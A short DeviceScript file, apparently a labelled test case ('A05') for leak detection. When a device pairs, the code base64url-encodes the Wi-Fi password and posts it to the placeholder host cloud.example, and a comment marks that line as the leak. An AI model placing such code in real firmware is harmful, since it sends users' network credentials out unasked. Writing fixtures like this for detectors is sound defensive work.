// A05: in base64url, without padding.
import { fetch } from "@devicescript/net";
import { base64url } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = base64url(Buffer.from(psk));
  const response = await fetch("https://cloud.example/a05", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
